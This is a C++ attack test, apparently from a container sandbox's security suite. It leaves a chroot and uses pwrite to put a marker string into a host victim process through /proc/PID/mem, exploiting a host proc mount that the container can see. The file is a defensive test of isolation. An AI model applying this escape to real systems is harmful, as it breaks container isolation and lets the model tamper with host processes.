// SPDX-License-Identifier: MIT
// Leaves the chroot, and writes to the memory of a host process by the host's
// own proc file system: proc_pid_mem(5).
// It has worked if the host finds the process's memory changed.
#include <fcntl.h>
#include <unistd.h>

#include "common/unique_fd.hpp"
#include "tests/attacks/rig/attack.hpp"
#include "tests/attacks/rig/host.hpp"

namespace attacks::host_proc_mem {

class HostProcMem final : public Attack {
 public:
  HostProcMem()
      : Attack({
            .name = "host-proc-mem",
            .title = "leave the chroot, write /proc/PID/mem of a host process",
            .open = "the container's table of mounts is a copy, with the "
                    "host's own proc in it. That shows the host's PID "
                    "namespace to whoever reaches it, and root may write to "
                    "what it shows: proc_pid_mem(5)",
        }) {}

  Words prepare(Host& host) override {
    const Victim victim = host.start_victim();
    return {std::to_string(victim.pid), std::to_string(victim.address)};
  }

  void attempt(const Words& words) override {
    leave_chroot();
    const std::string path = "/proc/" + words[0] + "/mem";
    const common::UniqueFd memory(
        try_to(open(path.c_str(), O_WRONLY | O_CLOEXEC), "open", path));
    const std::string text = "attacked";
    const auto address = static_cast<off_t>(std::stoul(words[1]));
    try_to(
        pwrite(memory.get(), text.data(), text.size(), address),
        "write",
        "to it");
  }

  std::string effect(Host& host) override {
    const bool same = host.victim_memory() == host.secret();
    return same ? "" : "the memory of a host process is changed";
  }
};

const Entry<HostProcMem> kEntry;

}  // namespace attacks::host_proc_mem
